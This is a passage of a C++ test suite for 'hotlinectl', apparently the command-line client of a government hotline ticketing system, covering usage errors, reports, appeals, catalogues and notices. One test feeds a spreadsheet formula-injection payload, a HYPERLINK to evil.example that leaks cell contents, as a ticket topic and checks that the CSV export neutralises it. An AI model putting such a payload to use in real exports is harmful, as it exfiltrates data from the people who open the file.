            "ticket` lists the ticket commands\n");
  EXPECT_EQ(Cli({"help", "frob"}).exit_code, 2);
}

// Mistakes in what the person typed or in a local file are wrong usage
// (exit 2), found before any call, and say what to fix; the server's
// refusals keep their own codes.
TEST_F(CliTest, LocalMistakesAreWrongUsage) {
  ASSERT_EQ(
      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
      0);
  ASSERT_EQ(Cli({"ticket", "create", "--type", "help", "--topic", "t",
                 "--title", "t", "--content", "c", "--dispatch_to", "housing"})
                .exit_code,
            0);
  const std::string missing = dir_.File("no-such-export.csv");
  const std::string unclosed = dir_.File("unclosed.csv");
  std::ofstream(unclosed) << "source_id,type,topic,title,content\n"
                          << "SZ9,投诉,噪音,\"施工,很吵\n";
  const std::string odd_header = dir_.File("odd-header.csv");
  std::ofstream(odd_header) << "source_id,type,topic,title,content,colour\n"
                            << "SZ9,投诉,噪音,施工,很吵,red\n";
  const std::string empty = dir_.File("empty.csv");
  std::ofstream(empty) << "";
  const std::vector<std::pair<std::vector<std::string>, std::string>> cases = {
      {{"ticket", "create", "--type", "praise", "--topic", "t", "--title", "t",
        "--content", "c"},
       "--type \"praise\" is not one of inquiry"},
      {{"ticket", "create", "--type", "help", "--urgency", "asap", "--topic",
        "t", "--title", "t", "--content", "c"},
       "--urgency \"asap\""},
      {{"ticket", "create", "--type", "help", "--topic", "t", "--title", "t",
        "--content", "c", "--received_at", "yesterday"},
       "--received_at needs an RFC 3339 time"},
      {{"ticket", "reply", "1", "--outcome", "great", "--text", "x"},
       "--outcome \"great\""},
      {{"ticket", "close", "1", "--satisfaction", "happy"},
       "--satisfaction \"happy\""},
      {{"ticket", "extend", "1", "--days", "five", "--reason", "x"},
       "--days must be a number"},
      {{"ticket", "list", "--page_size", "many"}, "--page_size must be"},
      {{"ticket", "list", "--all=yes"}, "--all takes no value"},
      {{"ticket", "list", "-x"}, "unknown option -x"},
      {{"ticket", "get", "1", "2"}, "unexpected argument \"2\""},
      {{"card", "list", "--color", "green"}, "--color \"green\""},
      {{"card", "list", "--from", "monday"}, "--from needs an RFC 3339 time"},
      {{"card", "issue", "1", "--color", "blue", "--reason", "x"},
       "--color \"blue\""},
      {{"watch", "--after_seq", "x"}, "--after_seq must be a number"},
      {{"clock", "advance", "--by", "soon"}, "--by \"soon\" is not a duration"},
      {{"report", "--top", "many"}, "--top must be a number"},
      {{"report", "--as_of", "now"}, "--as_of needs an RFC 3339 time"},
      {{"report", "--type", "praise"}, "--type \"praise\""},
      {{"report", "--days"}, ""},  // a switch: fine, checked below
      {{"import", missing}, missing + ": cannot read it: No such file"},
      {{"import", dir_.path()}, dir_.path() + ": is a directory"},
      {{"import", unclosed}, unclosed + ": line 2: a quoted field is never"},
      {{"import", odd_header}, odd_header + ": line 1: unknown column"},
      {{"import", empty}, empty + ": is empty"},
  };
  for (const auto& [args, message] : cases) {
    if (message.empty()) continue;
    const std::string command = absl::StrJoin(args, " ");
    CliRun run = Cli(args);
    EXPECT_EQ(run.exit_code, 2) << command << "\n" << run.err;
    EXPECT_TRUE(absl::StartsWith(run.err, "hotlinectl: " + message))
        << command << "\n"
        << run.err;
    EXPECT_TRUE(absl::StrContains(run.err, "\nusage: hotlinectl "))
        << command << "\n"
        << run.err;
    EXPECT_TRUE(absl::StrContains(run.err, "`hotlinectl help "))
        << command << "\n"
        << run.err;
  }
  // Nothing was created or changed by any of them.
  CliRun listed = Cli({"ticket", "list", "--json"});
  EXPECT_EQ(absl::StrContains(listed.out, "tickets/2"), false) << listed.out;
  CliRun events = Cli({"ticket", "events", "1"});
  EXPECT_FALSE(absl::StrContains(events.out, "REPLIED")) << events.out;

  // A refusal by the server is still the workflow's (5), not usage.
  CliRun refused = Cli({"ticket", "close", "1", "--satisfaction", "satisfied"});
  EXPECT_EQ(refused.exit_code, 5) << refused.err;  // not replied yet
  EXPECT_TRUE(
      absl::StartsWith(refused.err, "hotlinectl: FAILED_PRECONDITION: "))
      << refused.err;
  CliRun backwards =
      Cli({"report", "--from", "2021-03-01", "--to", "2021-02-01"});
  EXPECT_EQ(backwards.exit_code, 5) << backwards.err;
}

// Switches take no value, whatever follows them; the same name may take a
// value in another command (report --days, ticket extend --days N).
TEST_F(CliTest, SwitchesAreTheCommandsOwn) {
  CliRun days_last = Cli({"report", "--year", "2021", "--days"});
  EXPECT_EQ(days_last.exit_code, 0) << days_last.err;
  CliRun days_first =
      Cli({"report", "--days", "--month", "2021-02", "--format", "csv"});
  EXPECT_EQ(days_first.exit_code, 0) << days_first.err;
  EXPECT_TRUE(absl::StartsWith(days_first.out, "scope,key,")) << days_first.out;
  CliRun all = Cli({"ticket", "list", "--all", "--page_size", "1"});
  EXPECT_EQ(all.exit_code, 0) << all.err;
  // ticket extend's --days takes a number: the call is made (and refused by
  // the server: there is no ticket 1), not a usage mistake.
  CliRun extend =
      Cli({"ticket", "extend", "1", "--days", "3", "--reason", "需现场核查"});
  EXPECT_EQ(extend.exit_code, 4) << extend.err;
  // Global options before the command, command options before its operands.
  CliRun before = Cli({"--json", "ticket", "list", "--all"});
  EXPECT_EQ(before.exit_code, 0) << before.err;
  EXPECT_TRUE(absl::StartsWith(before.out, "{")) << before.out;
}

}  // namespace
}  // namespace hotline

namespace hotline {
namespace {

// `hotlinectl policy` says when the calendar is about to run out (issue 9,
// item 3), on stderr as well as in the listing; not otherwise.
TEST_F(CliTest, PolicyWarnsWhenTheCalendarRunsOut) {
  server_.reset();
  server_ = std::make_unique<ServerProcess>(
      db_, "",
      std::vector<std::string>{"--clock=manual",
                               "--start_time=2026-12-21T09:00:00+08:00"});
  CliRun soon = Cli({"policy"});
  ASSERT_EQ(soon.exit_code, 0) << soon.err;
  EXPECT_TRUE(absl::StrContains(soon.out, "WARNING:")) << soon.out;
  EXPECT_TRUE(
      absl::StrContains(soon.err,
                        "hotlinectl: warning: the working-day calendar ends on "
                        "2026-12-31, in 10 day(s)"))
      << soon.err;
  // A deadline computed past the calendar's end is shown as provisional.
  ASSERT_EQ(Cli({"department", "create", "housing", "--display_name", "住建局"})
                .exit_code,
            0);
  CliRun created = Cli({"ticket", "create", "--type", "complaint", "--topic",
                        "噪音", "--title", "夜间施工", "--content", "每晚",
                        "--dispatch_to", "housing"});
  ASSERT_EQ(created.exit_code, 0) << created.err;
  CliRun shown = Cli({"ticket", "get", "1"});
  EXPECT_TRUE(absl::StrContains(shown.out, "PROVISIONAL:")) << shown.out;
  EXPECT_TRUE(absl::StrContains(shown.out, "deadlines after 2026-12-31"))
      << shown.out;
}

TEST(CliCalendar, NoWarningWhileTheCalendarCoversWellAhead) {
  TempDir dir;
  const std::string db =
      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
  const std::string token = testing::BootstrapToken(db, "bureau");
  ServerProcess server(
      db, "", {"--clock=manual", "--start_time=2026-06-01T09:00:00+08:00"});
  CliRun fine = testing::RunCli(HOTLINE_CLI_BINARY, server.address(), token,
                                {"policy"}, dir);
  ASSERT_EQ(fine.exit_code, 0) << fine.err;
  EXPECT_FALSE(absl::StrContains(fine.out, "WARNING")) << fine.out;
  EXPECT_EQ(fine.err, "");
}

}  // namespace
}  // namespace hotline

namespace hotline {
namespace {

// A token pasted with a line break or a non-ASCII letter is a local mistake
// (exit 2 with one line), not a crash of the gRPC library.
TEST_F(CliTest, AMangledTokenIsAUsageMistake) {
  for (const std::string& token :
       {std::string("hl_abc\nx"), std::string("hl_abc\xC3\xA9"),
        std::string("hl_abc def")}) {
    CliRun run = Cli({"ticket", "get", "1"}, token);
    EXPECT_EQ(run.exit_code, 2) << run.err;
    EXPECT_TRUE(absl::StrContains(run.err, "HOTLINE_TOKEN")) << run.err;
  }
}

// A list by received time alone (issue 21: on PostgreSQL it was INTERNAL,
// for SQLite-only syntax in the SQL both engines run).
TEST_F(CliTest, ListsByReceivedTimeAlone) {
  for (const char* title : {"夜间施工", "路灯不亮", "停水"}) {
    CliRun created = Cli({"ticket", "create", "--type", "complaint", "--topic",
                          "噪音", "--title", title, "--content", "每晚"});
    ASSERT_EQ(created.exit_code, 0) << created.err;
  }
  CliRun since = Cli(
      {"ticket", "list", "--filter", "received_at > \"2020-01-01T00:00:00Z\""});
  ASSERT_EQ(since.exit_code, 0) << since.err;
  for (const char* ticket : {"tickets/1 ", "tickets/2 ", "tickets/3 "}) {
    EXPECT_TRUE(absl::StrContains(since.out, ticket)) << since.out;
  }
  CliRun before = Cli(
      {"ticket", "list", "--filter", "received_at < \"2020-01-01T00:00:00Z\""});
  ASSERT_EQ(before.exit_code, 0) << before.err;
  EXPECT_FALSE(absl::StrContains(before.out, "tickets/")) << before.out;
}

}  // namespace
}  // namespace hotline

namespace hotline {
namespace {

// The cells of the CSV line that starts with `prefix`, or none.
std::vector<std::string> CsvRow(const std::string& csv,
                                const std::string& prefix) {
  for (absl::string_view line : absl::StrSplit(csv, '\n')) {
    if (absl::StartsWith(line, prefix)) return absl::StrSplit(line, ',');
  }
  return {};
}

// In rehearsal mode "today" is the server's day, not this machine's: a
// daily report without --date and a report without a period use the
// manual clock. A return counts in the returning department's row, the
// tickets nobody holds have a key in the CSV, and a caller's topic that a
// spreadsheet would evaluate is neutralised.
TEST(CliRehearsal, DefaultsComeFromTheServersClock) {
  TempDir dir;
  const std::string db =
      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
  const std::string bureau = testing::BootstrapToken(db, "bureau");
  ServerProcess server(
      db, "", {"--clock=manual", "--start_time=2021-03-10T09:00:00+08:00"});
  auto cli = [&](const std::vector<std::string>& args,
                 const std::string& token) {
    return testing::RunCli(HOTLINE_CLI_BINARY, server.address(), token, args,
                           dir);
  };
  ASSERT_EQ(cli({"department", "create", "housing", "--display_name", "住建局"},
                bureau)
                .exit_code,
            0);
  CliRun token =
      cli({"token", "create", "department/housing", "--json"}, bureau);
  ASSERT_EQ(token.exit_code, 0) << token.err;
  const size_t at = token.out.find("\"secret\": \"");
  ASSERT_NE(at, std::string::npos) << token.out;
  const std::string housing =
      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
  const std::string evil = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"x\")";
  for (const std::string& topic : {evil, std::string("噪音")}) {
    CliRun created = cli(
        {"ticket", "create", "--type", "complaint", "--topic", topic, "--title",
         "夜间施工", "--content", "每晚", "--dispatch_to", "housing"},
        bureau);
    ASSERT_EQ(created.exit_code, 0) << created.err;
  }
  ASSERT_EQ(cli({"ticket", "ack", "1"}, housing).exit_code, 0);
  CliRun daily = cli({"daily", "submit", "1", "--progress", "已约谈"}, housing);
  EXPECT_EQ(daily.exit_code, 0) << daily.err;
  EXPECT_TRUE(absl::StrContains(daily.out, "for 2021-03-10")) << daily.out;
  CliRun returned =
      cli({"ticket", "return", "2", "--reason", "属于市场监管局职责"}, housing);
  ASSERT_EQ(returned.exit_code, 0) << returned.err;

  // housing's own report: this (the server's) month, its return counted.
  CliRun mine = cli({"report", "--format", "csv"}, housing);
  ASSERT_EQ(mine.exit_code, 0) << mine.err;
  const std::vector<std::string> total = CsvRow(mine.out, "total,housing,");
  ASSERT_EQ(total.size(), 47u) << mine.out;
  EXPECT_EQ(total[2], "1") << mine.out;   // received: ticket 1 is housing's
  EXPECT_EQ(total[12], "1") << mine.out;  // returns: ticket 2
  CliRun zh = cli({"report", "--format", "zh"}, housing);
  EXPECT_TRUE(absl::StartsWith(zh.out, "2021年3月1日至2021年3月31日"))
      << zh.out;

  CliRun all = cli({"report", "--format", "csv", "--top", "5"}, bureau);
  ASSERT_EQ(all.exit_code, 0) << all.err;
  const std::vector<std::string> row =
      CsvRow(all.out, "department,departments/housing,");
  ASSERT_EQ(row.size(), 47u) << all.out;
  EXPECT_EQ(row[12], "1") << all.out;
  const std::vector<std::string> nobody =
      CsvRow(all.out, "department,(not dispatched),");
  ASSERT_EQ(nobody.size(), 47u) << all.out;
  EXPECT_EQ(nobody[2], "1") << all.out;   // ticket 2, returned
  EXPECT_EQ(nobody[12], "0") << all.out;  // the return is housing's
  EXPECT_TRUE(absl::StrContains(all.out,
                                "\ntopic,\"'=HYPERLINK(\"\"http://evil.example/"
                                "?q=\"\"&A1,\"\"x\"\")\",1,"))
      << all.out;
}

// Callbacks (回访) and an appeal (申诉) from the command line: three missed
// calls close one ticket as unreachable; another is rated dissatisfied
// with reasons, housing appeals and the bureau sets the rating aside; the
// report counts both.
TEST_F(CliTest, CallbacksAndAnAppealFromTheCommandLine) {
  ASSERT_EQ(Cli({"department", "create", "housing", "--display_name", "住建局"})
                .exit_code,
            0);
  const std::string housing =
      SecretOf(Cli({"token", "create", "department/housing", "--json"}));
  ASSERT_FALSE(housing.empty());
  for (int i = 1; i <= 2; ++i) {
    ASSERT_EQ(Cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
                   "--title", "夜间施工", "--content", "每晚", "--dispatch_to",
                   "housing"})
                  .exit_code,
              0);
    const std::string n = std::to_string(i);
    ASSERT_EQ(Cli({"ticket", "ack", n}, housing).exit_code, 0);
    ASSERT_EQ(
        Cli({"ticket", "reply", n, "--outcome", "resolved", "--text", "已处理"},
            housing)
            .exit_code,
        0);
  }
  EXPECT_EQ(Cli({"ticket", "callback", "1", "--channel", "fax", "--result",
                 "reached"})
                .exit_code,
            2);
  CliRun call;
  for (const char* result : {"unreachable", "refused", "unreachable"}) {
    call = Cli({"ticket", "callback", "1", "--channel", "phone", "--result",
                result, "--note", "无人接听"});
    ASSERT_EQ(call.exit_code, 0) << call.err;
  }
  EXPECT_TRUE(absl::StrContains(call.out, "CLOSED")) << call.out;
  EXPECT_TRUE(absl::StrContains(call.out, "none: the caller was not reached"))
      << call.out;
  ASSERT_EQ(Cli({"ticket", "callback", "2", "--channel", "sms", "--result",
                 "reached"})
                .exit_code,
            0);
  CliRun closed = Cli({"ticket", "close", "2", "--satisfaction", "dissatisfied",
                       "--reasons", "problem_unsolved"});
  ASSERT_EQ(closed.exit_code, 0) << closed.err;
  EXPECT_TRUE(absl::StrContains(closed.out, "DISSATISFIED: PROBLEM_UNSOLVED"))
      << closed.out;
  CliRun appealed =
      Cli({"ticket", "appeal", "2", "--grounds", "诉求超出政策规定"}, housing);
  ASSERT_EQ(appealed.exit_code, 0) << appealed.err;
  EXPECT_TRUE(absl::StrContains(appealed.out, "PENDING: 诉求超出政策规定"))
      << appealed.out;
  EXPECT_EQ(
      Cli({"ticket", "decide-appeal", "2", "--verdict", "maybe"}).exit_code, 2);
  CliRun upheld = Cli({"ticket", "decide-appeal", "2", "--verdict", "upheld",
                       "--note", "不合理差评"});
  ASSERT_EQ(upheld.exit_code, 0) << upheld.err;
  EXPECT_TRUE(absl::StrContains(upheld.out, "UPHELD")) << upheld.out;
  CliRun csv = Cli({"report", "--format", "csv"});
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "callbacks_unreachable"),
            "1")
      << csv.out;
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "appeals_upheld"), "1")
      << csv.out;
  EXPECT_EQ(
      CsvCell(csv.out, "departments/housing", "satisfaction_rate_percent"), "")
      << csv.out;
  CliRun zh = Cli({"report", "--format", "zh"});
  EXPECT_TRUE(
      absl::StrContains(zh.out, ",回访未果1件,差评申诉1件,其中不合理差评1件。"))
      << zh.out;
}

// The scorecard (考核) from the command line on a rehearsal server: one
// department with one ticket is scored but not ranked (fewer than the
// default 5); zh, CSV.
TEST(CliAssessment, ScoredButNotRankedFromTheCommandLine) {
  TempDir dir;
  const std::string db =
      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
  const std::string bureau = testing::BootstrapToken(db, "bureau");
  ServerProcess server(
      db, "", {"--clock=manual", "--start_time=2021-03-01T09:00:00+08:00"});
  auto cli = [&](const std::vector<std::string>& args) {
    return testing::RunCli(HOTLINE_CLI_BINARY, server.address(), bureau, args,
                           dir);
  };
  ASSERT_EQ(cli({"department", "create", "housing", "--display_name", "住建局"})
                .exit_code,
            0);
  ASSERT_EQ(cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
                 "--title", "夜间施工", "--content", "每晚", "--dispatch_to",
                 "housing"})
                .exit_code,
            0);
  CliRun zh =
      cli({"report", "--month", "2021-03", "--assessment", "--format", "zh"});
  ASSERT_EQ(zh.exit_code, 0) << zh.err;
  EXPECT_EQ(zh.out,
            "2021年3月1日至2021年3月31日各部门考核得分(满分100分):"
            "无参与排名的部门;工单不足5件或无可考核指标,不参与排名:住建局。\n");
  CliRun csv =
      cli({"report", "--month", "2021-03", "--assessment", "--format", "csv"});
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_TRUE(absl::StartsWith(
      csv.out,
      "department,display_name,tickets,ranked,rank,score,previous_rank,"
      "previous_score,on_time_reply_percent,returns_percent,"))
      << csv.out;
  EXPECT_TRUE(absl::StrContains(csv.out, "\ndepartments/housing,住建局,1,no,,"))
      << csv.out;
  CliRun mixed = cli({"report", "--assessment", "--topic", "噪音"});
  EXPECT_EQ(mixed.exit_code, 2) << mixed.err;
}

// The catalogues and hotspots from the command line on a rehearsal server:
// a dispatch catalogue from a CSV file (a stale --expected_version refused
// with exit 5, a malformed file a usage mistake), a categorized ticket, the
// suggestion, a dispatch that follows it, the figures by category and rule,
// the hotspots and the zh report's 热点问题 sentence.
TEST(CliCatalogue, FromAFileToTheHotspots) {
  TempDir dir;
  const std::string db =
      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
  const std::string bureau = testing::BootstrapToken(db, "bureau");
  ServerProcess server(
      db, "", {"--clock=manual", "--start_time=2021-03-01T09:00:00+08:00"});
  auto cli = [&](const std::vector<std::string>& args) {
    return testing::RunCli(HOTLINE_CLI_BINARY, server.address(), bureau, args,
                           dir);
  };
  ASSERT_EQ(cli({"department", "create", "housing", "--display_name", "住建局"})
                .exit_code,
            0);
  CliRun categories = cli({"category", "list"});
  ASSERT_EQ(categories.exit_code, 0) << categories.err;
  EXPECT_TRUE(absl::StrContains(categories.out, "sample-2026.1"));
  EXPECT_TRUE(absl::StrContains(categories.out, "噪声污染"));

  const std::string file = dir.File("catalogue.csv");
  {
    std::ofstream out(file);
    out << "category,township,department,assisting,note\n"
        << "0201,城关镇,housing,,噪声投诉\n";
  }
  CliRun set = cli({"catalogue", "set", file, "--reason", "县派单目录"});
  ASSERT_EQ(set.exit_code, 0) << set.err;
  EXPECT_EQ(set.out, "dispatch catalogue version 1: 1 rules\n");
  CliRun stale = cli({"catalogue", "set", file, "--reason", "again",
                      "--expected_version", "0"});
  EXPECT_EQ(stale.exit_code, 5) << stale.err;
  EXPECT_TRUE(absl::StrContains(stale.err, "CATALOGUE_VERSION")) << stale.err;
  const std::string bad = dir.File("bad.csv");
  {
    std::ofstream out(bad);
    out << "category,department\n0201,housing\n";
  }
  CliRun malformed = cli({"catalogue", "set", bad, "--reason", "x"});
  EXPECT_EQ(malformed.exit_code, 2) << malformed.err;
  CliRun shown = cli({"catalogue", "show", "--format", "csv"});
  ASSERT_EQ(shown.exit_code, 0) << shown.err;
  EXPECT_EQ(shown.out,
            "category,township,department,assisting,note\n"
            "0201,城关镇,housing,,噪声投诉\n");

  CliRun unknown =
      cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
           "--title", "广场舞", "--content", "每晚", "--category", "0299"});
  EXPECT_EQ(unknown.exit_code, 5) << unknown.err;
  EXPECT_TRUE(absl::StrContains(unknown.err, "UNKNOWN_CATEGORY"));
  ASSERT_EQ(cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
                 "--title", "广场舞", "--content", "每晚", "--category",
                 "020102", "--address", "城关镇人民广场"})
                .exit_code,
            0);
  CliRun suggested = cli({"ticket", "suggest", "1"});
  ASSERT_EQ(suggested.exit_code, 0) << suggested.err;
  EXPECT_TRUE(absl::StrContains(suggested.out, "housing")) << suggested.out;
  CliRun dispatched = cli({"ticket", "dispatch", "1", "housing"});
  ASSERT_EQ(dispatched.exit_code, 0) << dispatched.err;
  EXPECT_TRUE(
      absl::StrContains(dispatched.out, "suggested housing (v1), followed"))
      << dispatched.out;

  CliRun figures =
      cli({"report", "--month", "2021-03", "--categories", "--format", "csv"});
  ASSERT_EQ(figures.exit_code, 0) << figures.err;
  EXPECT_TRUE(
      absl::StrContains(figures.out, "\ncategory,02,生态环境,1,1,0,0,0\n"))
      << figures.out;
  EXPECT_TRUE(absl::StrContains(
      figures.out, "\nrule,0201,城关镇,departments/housing,1,1,0,0\n"))
      << figures.out;
  CliRun zh = cli({"report", "--month", "2021-03", "--format", "zh"});
  ASSERT_EQ(zh.exit_code, 0) << zh.err;
  EXPECT_TRUE(absl::EndsWith(
      zh.out,
      "热点问题:噪声污染1件(上期无);增长最快的是噪声污染(增加1件);"
      "诉求集中在城关镇(1件)。\n"))
      << zh.out;
  // The platform's export may carry the category: a known code is kept, an
  // unknown one fails its row alone.
  const std::string export_csv = dir.File("export.csv");
  std::ofstream(export_csv) << "source_id,type,topic,title,content,category\n"
                            << "SZ101,投诉,噪音,施工,夜间施工,020101\n"
                            << "SZ102,投诉,噪音,施工,夜间施工,0299\n";
  CliRun imported = cli({"import", export_csv});
  EXPECT_EQ(imported.exit_code, 5) << imported.err;
  EXPECT_TRUE(absl::StrContains(imported.err, "UNKNOWN_CATEGORY"))
      << imported.err;
  CliRun second = cli({"ticket", "get", "2"});
  EXPECT_TRUE(absl::StrContains(second.out, "020101")) << second.out;
  CliRun both = cli({"report", "--categories", "--hotspots"});
  EXPECT_EQ(both.exit_code, 2) << both.err;
  CliRun level = cli({"report", "--hotspots", "--level", "4"});
  EXPECT_EQ(level.exit_code, 5) << level.err;
}

// The bureau's reply review (办结审核) from the command line, under a policy
// file that turns it on: a send-back with reasons, then the acceptance.
TEST(CliReview, SendBackAndAcceptAReply) {
  TempDir dir;
  const std::string db =
      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
  const std::string policy = dir.File("policy.conf");
  {
    std::ofstream out(policy);
    out << "version = reviewed-1\nreview_replies = 1\n"
           "send_back_reply_working_days = 3\n";
  }
  const std::string bureau = testing::BootstrapToken(db, "bureau");
  ServerProcess server(db, "", {"--policy=" + policy});
  auto cli = [&](const std::vector<std::string>& args,
                 const std::string& token) {
    return testing::RunCli(HOTLINE_CLI_BINARY, server.address(), token, args,
                           dir);
  };
  ASSERT_EQ(cli({"department", "create", "housing", "--display_name", "住建局"},
                bureau)
                .exit_code,
            0);
  const std::string housing = SecretOf(
      cli({"token", "create", "department/housing", "--json"}, bureau));
  ASSERT_FALSE(housing.empty());
  ASSERT_EQ(cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
                 "--title", "夜间施工", "--content", "每晚", "--dispatch_to",
                 "housing"},
                bureau)
                .exit_code,
            0);
  ASSERT_EQ(cli({"ticket", "ack", "1"}, housing).exit_code, 0);
  ASSERT_EQ(
      cli({"ticket", "reply", "1", "--outcome", "resolved", "--text", "已处理"},
          housing)
          .exit_code,
      0);
  CliRun early =
      cli({"ticket", "close", "1", "--satisfaction", "satisfied"}, bureau);
  EXPECT_EQ(early.exit_code, 5);
  EXPECT_TRUE(absl::StrContains(early.err, "REPLY_NOT_REVIEWED")) << early.err;
  CliRun unknown =
      cli({"ticket", "send-back", "1", "--reasons", "rude"}, bureau);
  EXPECT_EQ(unknown.exit_code, 2) << unknown.err;
  CliRun sent =
      cli({"ticket", "send-back", "1", "--reasons",
           "caller_not_contacted,demand_unresolved", "--note", "请联系诉求人"},
          bureau);
  ASSERT_EQ(sent.exit_code, 0) << sent.err;
  EXPECT_TRUE(absl::StrContains(sent.out, "IN_PROGRESS")) << sent.out;
  EXPECT_TRUE(absl::StrContains(
      sent.out,
      "1x, last: CALLER_NOT_CONTACTED, DEMAND_UNRESOLVED: 请联系诉求人"))
      << sent.out;
  ASSERT_EQ(cli({"ticket", "reply", "1", "--outcome", "resolved", "--text",
                 "已联系诉求人"},
                housing)
                .exit_code,
            0);
  CliRun accepted = cli({"ticket", "accept-reply", "1"}, bureau);
  ASSERT_EQ(accepted.exit_code, 0) << accepted.err;
  EXPECT_TRUE(absl::StrContains(accepted.out, "ACCEPTED")) << accepted.out;
  EXPECT_EQ(cli({"ticket", "close", "1", "--satisfaction", "satisfied"}, bureau)
                .exit_code,
            0);
  CliRun csv = cli({"report", "--format", "csv"}, bureau);
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "replies_sent_back"), "1")
      << csv.out;
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "sent_back_not_contacted"),
            "1")
      << csv.out;
  CliRun zh = cli({"report", "--format", "zh"}, bureau);
  EXPECT_TRUE(absl::StrContains(zh.out, ",答复被退回重办1件。")) << zh.out;
}

// Urging notices (催办通知) from the command line on a rehearsal server: the
// bureau urges, housing signs for it and lets it go unanswered; the
// escalation (督办) follows; the notice list, the report's columns and
// clause, and the circulated notice (通报) in zh and CSV.
TEST(CliNotice, UrgeEscalateListAndCirculate) {
  TempDir dir;
  const std::string db =
      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
  const std::string bureau = testing::BootstrapToken(db, "bureau");
  ServerProcess server(
      db, "", {"--clock=manual", "--start_time=2021-03-01T09:00:00+08:00"});
  auto cli = [&](const std::vector<std::string>& args,
                 const std::string& token) {
    return testing::RunCli(HOTLINE_CLI_BINARY, server.address(), token, args,
                           dir);
  };
  ASSERT_EQ(cli({"department", "create", "housing", "--display_name",
                 "县住房和城乡建设局"},
                bureau)
                .exit_code,
            0);
  const std::string housing = SecretOf(
      cli({"token", "create", "department/housing", "--json"}, bureau));
  ASSERT_FALSE(housing.empty());
  ASSERT_EQ(cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
                 "--title", "夜间施工", "--content", "每晚", "--source_id",
                 "GD-1001", "--dispatch_to", "housing"},
                bureau)
                .exit_code,
            0);
  ASSERT_EQ(cli({"ticket", "ack", "1"}, housing).exit_code, 0);
  CliRun bad_level =
      cli({"ticket", "urge", "1", "--reason", "r", "--level", "shout"}, bureau);
  EXPECT_EQ(bad_level.exit_code, 2) << bad_level.err;
  CliRun not_bureau = cli({"ticket", "urge", "1", "--reason", "r"}, housing);
  EXPECT_EQ(not_bureau.exit_code, 3) << not_bureau.err;
  CliRun urged = cli({"ticket", "urge", "1", "--reason", "群众多次来电催促",
                      "--copy_to", "分管副局长"},
                     bureau);
  ASSERT_EQ(urged.exit_code, 0) << urged.err;
  EXPECT_TRUE(absl::StrContains(
      urged.out, "#1 URGING ISSUED, housing, answer due 2021-03-02 24:00"))
      << urged.out;
  CliRun mine = cli({"notice", "list"}, housing);
  ASSERT_EQ(mine.exit_code, 0) << mine.err;
  EXPECT_TRUE(absl::StrContains(mine.out, "tickets/1/notices/1")) << mine.out;
  ASSERT_EQ(cli({"ticket", "notice-ack", "1", "1"}, housing).exit_code, 0);
  // Unanswered past its deadline: 督办 follows.
  ASSERT_EQ(
      cli({"clock", "advance", "--to", "2021-03-03T09:00:00+08:00"}, bureau)
          .exit_code,
      0);
  CliRun escalated =
      cli({"notice", "list", "--state", "escalated,issued"}, bureau);
  ASSERT_EQ(escalated.exit_code, 0) << escalated.err;
  EXPECT_TRUE(absl::StrContains(escalated.out, "SUPERVISION")) << escalated.out;
  EXPECT_TRUE(absl::StrContains(escalated.out, "tickets/1/notices/2"))
      << escalated.out;
  CliRun answered = cli({"ticket", "notice-answer", "tickets/1/notices/2",
                         "--answer", "已约谈施工单位, 本周内整改"},
                        housing);
  EXPECT_EQ(answered.exit_code, 5) << answered.err;  // not signed for
  EXPECT_TRUE(absl::StrContains(answered.err, "NOTICE_STATE")) << answered.err;
  ASSERT_EQ(
      cli({"ticket", "notice-ack", "tickets/1/notices/2"}, housing).exit_code,
      0);
  answered = cli({"ticket", "notice-answer", "1", "2", "--answer",
                  "已约谈施工单位, 本周内整改"},
                 housing);
  ASSERT_EQ(answered.exit_code, 0) << answered.err;
  EXPECT_TRUE(absl::StrContains(answered.out, "#2 SUPERVISION ANSWERED"))
      << answered.out;
  CliRun events = cli({"ticket", "events", "1"}, bureau);
  for (const char* type : {"NOTICE_ISSUED", "NOTICE_ACKNOWLEDGED",
                           "NOTICE_OVERDUE", "NOTICE_ANSWERED"}) {
    EXPECT_TRUE(absl::StrContains(events.out, type)) << type << events.out;
  }

  CliRun csv = cli({"report", "--month", "2021-03", "--format", "csv"}, bureau);
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "notices"), "2") << csv.out;
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "notices_answered_on_time"),
            "1")
      << csv.out;
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "notices_overdue"), "1")
      << csv.out;
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "notices_escalated"), "1")
      << csv.out;
  CliRun zh = cli({"report", "--month", "2021-03", "--format", "zh"}, bureau);
  EXPECT_TRUE(
      absl::StrContains(zh.out, ",收到催办通知2件,按期反馈1件,逾期未反馈1件。"))
      << zh.out;

  CliRun circular = cli(
      {"circular", "--department", "housing", "--month", "2021-03"}, bureau);
  ASSERT_EQ(circular.exit_code, 0) << circular.err;
  EXPECT_TRUE(absl::StartsWith(
      circular.out,
      "关于县住房和城乡建设局逾期工单和催办未反馈情况的通报\n"
      "2021年3月1日至2021年3月31日\n一、本期无逾期工单。\n"
      "二、未按期反馈的催办、督办通知1件:\n"
      "  1. GD-1001《夜间施工》 催办通知(第1号),应于2021-03-02 "
      "24:00前反馈,未按期反馈,已升级\n"))
      << circular.out;
  CliRun circular_csv = cli({"circular", "--department", "housing", "--month",
                             "2021-03", "--format", "csv"},
                            housing);  // a department reads its own
  ASSERT_EQ(circular_csv.exit_code, 0) << circular_csv.err;
  EXPECT_EQ(circular_csv.out,
